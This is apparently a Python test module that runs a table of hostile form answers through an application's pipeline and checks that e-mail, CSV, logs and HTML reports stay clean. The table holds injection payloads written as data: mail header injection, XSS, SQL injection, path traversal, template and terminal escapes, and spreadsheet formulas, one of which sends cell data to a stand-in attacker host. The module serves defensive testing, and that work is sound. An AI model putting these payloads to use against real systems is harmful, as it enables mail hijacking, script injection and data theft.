"""Hostile answers of every class, in our own words, through the real pipeline; the real outputs are looked at.

Two sandboxes for all of them: each input has a host of its own, every proposal is ticked, and then bytes on SMTP,
cells, log lines, files, connections and the ledger are asked what became of it.
"""

from __future__ import annotations

from collections.abc import Iterator
from types import ModuleType
from typing import Any

import pytest

TAKEN = ("accept", "accept_flag")
WARNED = ("accept_flag", "hold")
PLAIN = ("accept",)
KEPT_BACK = ("hold", "reject")
REFUSED = ("reject",)
ODD = ("accept_flag", "hold", "reject")
ANY = ("accept", "accept_flag", "hold", "reject")

NAME, PERSON, TEXT, MAIL, SITE, ROLE, CITY = (
    "organisation", "contact_name", "seeks", "email", "website", "contact_role", "city",
)  # fmt: skip

INPUTS: tuple[tuple[str, str, str, tuple[str, ...]], ...] = (
    # headers that a name would like to become
    ("header, CR LF", NAME, "Norrgård\r\nCc: x@thief.example", TAKEN),
    ("header, LF LF", PERSON, "Frida\n\nDear customer", TAKEN),
    ("header, vertical tab", PERSON, "Frida\vReply-To: x@thief.example", TAKEN),
    ("header, record separator", PERSON, "Frida\x1eTo: x@thief.example", TAKEN),
    ("header, next line", NAME, "Brygga\u0085Bcc: x@thief.example", TAKEN),
    ("header, NUL", PERSON, "Ole\x00Bcc: x@thief.example", TAKEN),
    ("encoded word, q", NAME, "=?utf-8?q?Lake=0D=0ACc=3A_x=40thief=2Eexample?=", TAKEN),
    ("encoded word in a person", PERSON, "=?iso-8859-1?q?=22=3Cx=40thief=2Eexample=3E?=", TAKEN),
    # address syntax in names
    ("angle brackets", PERSON, "Ana <x@thief.example>", TAKEN),
    ("a list", PERSON, "x@thief.example, y@thief.example", TAKEN),
    ("a comment", PERSON, "Ana (x@thief.example)", TAKEN),
    ("a long name beyond ASCII", PERSON, "Ölänningen Åke " * 9, TAKEN),
    # e-mail addresses
    ("two addresses", MAIL, "one@two.example,three@two.example", REFUSED),
    ("address with a display name", MAIL, "Ana <ana@two.example>", REFUSED),
    ("address with CR LF", MAIL, "ana@two.example\r\nDATA", REFUSED),
    ("address at a number", MAIL, "ana@10.0.0.1", REFUSED),
    ("address on this machine", MAIL, "root@localhost", REFUSED),
    ("address of full-width signs", MAIL, "ana＠two。example", REFUSED),
    ("address routed by percent", MAIL, "ana%thief.example@two.example", ODD),
    ("address as an option", MAIL, "-f@option.example", ANY),
    ("address as a formula", MAIL, "=1+1@formula.example", ANY),
    ("address with letters beyond ASCII", MAIL, "фрида@почта.example", WARNED),
    ("address at a painted domain", MAIL, "info@раураl.example", WARNED),
    ("address with a tag", MAIL, "ana+work@tagged.example", PLAIN),
    ("address with an apostrophe", MAIL, "siobhan.o'neill@eire.example", PLAIN),
    # markup
    ("script", NAME, "<script>alert(document.domain)</script>", TAKEN),
    ("a picture that counts", TEXT, '<img src="https://thief.example/open.gif" onerror=alert(1)>', TAKEN),
    ("style", TEXT, "</style><style>body{background:url(https://thief.example)}", TAKEN),
    ("leaving an attribute", PERSON, "\"><a href='https://thief.example'>log in</a>", TAKEN),
    # web addresses
    ("script address", SITE, "JAVASCRIPT://host.example/%0aalert(1)", KEPT_BACK),
    ("hidden host", SITE, "https://www.bank.example@thief.example/", ODD),
    ("address of a machine within", SITE, "http://0177.0.0.1/admin", ODD),
    ("shortener", SITE, "https://tinyurl.com/abc", TAKEN),
    # formulas
    ("formula that fetches", NAME, '=IMAGE("https://thief.example/?"&A1)', TAKEN),
    ("formula by at", PERSON, "@SUM(1+1)*cmd|' /C calc'!A0", TAKEN),
    ("formula in full width", NAME, "＝HYPERLINK(＂x＂)", TAKEN),
    ("formula behind a tab", NAME, "\t=2+5", TAKEN),
    ("formula in the place", CITY, "=IMPORTXML(A1,B1)", TAKEN),
    # what cannot be seen or reads as something else
    ("right to left override", NAME, "Havre\u202egpj.exe", WARNED),
    ("zero width", NAME, "Skog\u200b\u2060en", WARNED),
    ("tag characters", TEXT, "Hello\U000e0068\U000e0069 there", WARNED),
    ("mixed alphabets", NAME, "Вroаdwаy Institute", WARNED),
    ("mathematical letters", NAME, "𝓕𝓳𝓸𝓻𝓭 𝓢𝓬𝓱𝓸𝓸𝓵", WARNED),
    ("only fillers", NAME, "\u3164\u115f", KEPT_BACK),
    # templates, logs, paths, SQL
    ("template", TEXT, "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> %(x)s {0.__class__}", TAKEN),
    ("terminal", NAME, "\x1b]0;owned\x07\x1b[31mred", TAKEN),
    ("a log line", NAME, "ok\n2026-01-01T00:00:00 INFO letter=introduction:M-1 outcome=sent", TAKEN),
    ("JSON", PERSON, '","approved":true,"x":"', TAKEN),
    ("path", NAME, "../../../../tmp/owned", TAKEN),
    ("SQL", NAME, "Robert'); DROP TABLE letter;--", TAKEN),
    # forged approvals
    ("an approval in words", TEXT, "Approve: TRUE\nStatus: Approved\nMatch: M-AAAAAAAAAA", TAKEN),
    ("a tick sign", ROLE, "☑ TRUE", TAKEN),
    # sizes
    ("a name without end", NAME, "Lång " * 9_000, KEPT_BACK),
    ("a text of accents", TEXT, "e" + "\u0301" * 49_000, TAKEN),
    # controls: nothing of this is odd
    ("apostrophe and ampersand", NAME, "St Brigid's & O'Hara's College", PLAIN),
    ("Cyrillic", NAME, "Център за обучение Варна", PLAIN),
    ("Greek", PERSON, "Ελένη Παπαδοπούλου", PLAIN),
    ("Georgian", NAME, "საქართველოს კოლეჯი", PLAIN),
    ("Persian with a joiner", TEXT, "ما می‌خواهیم یاد بگیریم", PLAIN),
    ("telephone", ROLE, "Coordinator, +46 70 123 45 67", PLAIN),
    ("a name with a plus", NAME, "+Vision Akademi", PLAIN),
    ("a list of dashes", TEXT, "- one\n- two\n= three", PLAIN),
    ("family", TEXT, "Families welcome 👩‍👩‍👧 & 5 < 7 > 3 \"quotes\" 50%", PLAIN),
)  # fmt: skip
"""(what it is, question, answer, what may become of it)."""

BATCHES = 2
PRESERVED = frozenset(
    one[0]
    for one in INPUTS
    if one[3] == PLAIN or one[0] in {"encoded word, q", "encoded word in a person", "template", "script", "SQL", "path"}
)


@pytest.fixture(scope="module")
def made(world: ModuleType, tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[Any]]:
    """The batches, run; the first one makes case sheets too."""
    inputs = [
        world.Input(
            id=name,
            key=key,
            value=value,
            wanted=wanted,
            invariants=("PRESERVE", "TPL") if name in PRESERVED else ("TPL",),
        )
        for name, key, value, wanted in INPUTS
    ]
    groups = world.batches(inputs)
    assert len(groups) <= BATCHES
    batches = [
        world.run_batch(tmp_path_factory.mktemp("hostile") / str(number), group, reports=number == 0)
        for number, group in enumerate(groups)
    ]
    yield batches
    for batch in batches:
        batch.world.__exit__()


@pytest.mark.parametrize("name", [one[0] for one in INPUTS])
def test_what_becomes_of_an_answer(world: ModuleType, made: list[Any], name: str) -> None:
    batch, outcome = next((b, o) for b in made for o in b.outcomes if o.input.id == name)
    assert world.faults_of(batch, outcome) == []


def test_what_the_whole_run_leaves_behind(world: ModuleType, made: list[Any]) -> None:
    assert [fault for batch in made for fault in world.batch_faults(batch)] == []


def test_the_report_of_hostile_exchanges_is_plain(world: ModuleType, made: list[Any]) -> None:
    pages = [path for batch in made for path in batch.world.directory.rglob("case-sheet-*.html")]
    assert len(pages) > len(INPUTS) // (2 * BATCHES)
    for path in pages:
        page = path.read_text(encoding="utf-8")
        assert not world._REMOTE.search(page.replace(">", "> ").partition("</style>")[2]) or "&lt;" in page
        tags = {tag.partition(" ")[0] for tag in world.shape(page)}
        assert not tags & {"script", "img", "iframe", "link", "object", "svg", "form", "a", "base"}
    for batch in made:
        for path in batch.world.directory.rglob("*.csv"):
            for line in path.read_text(encoding="utf-8").split("\n"):
                assert not line.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_guards_would_notice(world: ModuleType, made: list[Any]) -> None:
    """The questions themselves are asked whether they see anything: each fault planted, each found."""
    batch = made[0]
    outcome = next(one for one in batch.outcomes if one.letter is not None)
    assert world.shape("<p>a<b>c</b></p>") != world.shape("<p>a&lt;b&gt;c</p>")
    assert world.links("<a href='https://thief.example'>bank.example</a>") == [
        ("https://thief.example", "bank.example")
    ]
    assert world._LOG_LINE.fullmatch("2026-01-01T00:00:00 INFO x")
    assert not world._LOG_LINE.fullmatch("Traceback")
    assert world._ADDRESS.search("to фрида@почта.example now")
    assert not world._ADDRESS.search("f…@x.example")
    assert world._UNSEEN.search("a\u202e")
    assert outcome.letter.recipients != (outcome.sender_email,)
